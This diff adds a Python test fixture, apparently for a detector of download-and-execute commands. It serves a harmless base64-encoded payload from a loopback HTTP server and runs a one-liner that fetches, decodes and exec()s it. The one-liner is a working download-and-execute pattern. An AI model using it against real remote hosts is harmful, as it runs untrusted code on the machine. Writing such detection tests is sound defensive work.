@@ -1,0 +1,23 @@
+# expect: download-execute-command
+# The seed's one-liner, against a real HTTP server on the loopback.
+import base64, http.server, subprocess, sys, threading
+
+payload = base64.b64encode(b"print('payload ran')")
+
+
+class Payload(http.server.BaseHTTPRequestHandler):
+    def do_GET(self):
+        self.send_response(200)
+        self.end_headers()
+        self.wfile.write(payload)
+
+    def log_message(self, *args):
+        pass
+
+
+server = http.server.HTTPServer(("127.0.0.1", 0), Payload)
+threading.Thread(target=server.serve_forever, daemon=True).start()
+url = f"http://127.0.0.1:{server.server_port}/"
+command = f"import urllib.request, base64; exec(base64.b64decode(urllib.request.urlopen({url!r}).read()))"
+subprocess.run([sys.executable, "-c", command], check=True)
+server.shutdown()
